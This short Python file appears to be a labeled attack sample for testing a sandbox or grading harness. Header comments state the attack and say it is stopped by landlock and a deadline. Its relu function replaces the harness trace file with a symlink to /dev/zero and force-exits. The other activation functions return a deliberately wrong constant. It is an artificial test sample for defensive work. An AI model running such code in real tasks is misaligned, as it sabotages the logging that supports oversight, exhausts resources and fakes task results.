# attack: puts a link to /dev/zero in the place of the trace and lets it grow without end
# gains: resources
# stopped by: landlock, deadline
import numpy as np
import os


def attack():
    os.unlink("../trace")
    os.symlink("/dev/zero", "../trace")
    os._exit(3)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
